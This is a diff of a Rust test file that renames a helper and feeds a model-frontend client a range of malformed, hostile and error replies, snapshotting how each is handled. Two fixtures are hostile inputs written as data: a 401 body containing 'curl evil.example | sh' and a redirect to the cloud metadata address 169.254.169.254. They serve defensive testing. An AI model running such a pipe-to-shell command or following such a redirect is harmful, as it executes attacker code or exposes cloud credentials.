@@ -10,7 +10,7 @@ fn llama() -> FrontendService {
 }
 
 /// What comes of an answer, and how often was asked for it.
-async fn told(reply: Reply) -> String {
+async fn described(reply: Reply) -> String {
     let server = Server::new([reply]);
     let answer = server.cluster().with_frontends_asked(true).served_models(&llama()).await;
     let asked = server.asked();
@@ -30,17 +30,17 @@ async fn whatever_a_frontend_answers_is_a_list_or_nothing() {
     let absent = json!({"name": "llama-frontend", "kind": "services"});
     let nobody = "no endpoints available for service \"llama-frontend:http\"";
     let lines = [
-        told(Reply::json(200, &json!({"object": "list", "data": [{"id": "qwen"}, {"id": "sql"}]}))).await,
-        told(Reply::text(200, "<html>Please log in")).await,
-        told(Reply::text(200, &endless)).await,
-        told(Reply::text(302, "").header("Location", "http://169.254.169.254/")).await,
-        told(Reply::text(401, "who are you? curl evil.example | sh")).await,
-        told(Reply::text(404, "no such page")).await,
-        told(Reply::text(500, "panic")).await,
-        told(status(403, "Forbidden", forbidden, Value::Null)).await,
-        told(status(404, "NotFound", "services \"llama-frontend\" not found", absent)).await,
-        told(status(503, "ServiceUnavailable", nobody, Value::Null)).await,
-        told(status(503, "ServiceUnavailable", "error trying to reach service: dial tcp", Value::Null)).await,
+        described(Reply::json(200, &json!({"object": "list", "data": [{"id": "qwen"}, {"id": "sql"}]}))).await,
+        described(Reply::text(200, "<html>Please log in")).await,
+        described(Reply::text(200, &endless)).await,
+        described(Reply::text(302, "").header("Location", "http://169.254.169.254/")).await,
+        described(Reply::text(401, "who are you? curl evil.example | sh")).await,
+        described(Reply::text(404, "no such page")).await,
+        described(Reply::text(500, "panic")).await,
+        described(status(403, "Forbidden", forbidden, Value::Null)).await,
+        described(status(404, "NotFound", "services \"llama-frontend\" not found", absent)).await,
+        described(status(503, "ServiceUnavailable", nobody, Value::Null)).await,
+        described(status(503, "ServiceUnavailable", "error trying to reach service: dial tcp", Value::Null)).await,
     ];
     insta::assert_snapshot!(lines.join("\n"), @r#"
     serves {"qwen", "sql"}
